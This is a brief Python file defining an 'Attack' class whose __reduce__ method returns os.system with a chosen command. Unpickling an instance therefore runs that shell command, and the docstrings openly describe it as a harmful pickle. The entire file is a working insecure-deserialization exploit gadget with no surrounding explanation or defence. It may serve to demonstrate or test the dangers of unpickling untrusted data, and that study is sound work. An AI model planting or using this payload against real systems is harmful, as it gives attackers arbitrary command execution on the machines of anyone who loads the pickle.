"""A pickle that would do harm."""

import os


class Attack:
    """Unpickling it by Python runs a command."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)
